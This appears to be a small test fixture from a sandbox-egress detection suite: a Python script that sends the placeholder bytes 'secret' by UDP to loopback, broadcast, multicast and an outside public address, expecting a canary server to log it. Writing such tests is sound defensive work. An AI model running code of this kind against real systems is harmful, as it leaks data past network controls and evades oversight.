"""Sends the secrets by UDP, which needs no answer."""

CLASS = 11
KIND = "program"
SEEN = "a datagram at the canary server"

import socket

for host in ("127.0.0.1", "127.255.255.255", "224.0.0.1", "1.1.1.1"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.sendto(b"secret", (host, @PORT@))
    except OSError:
        pass
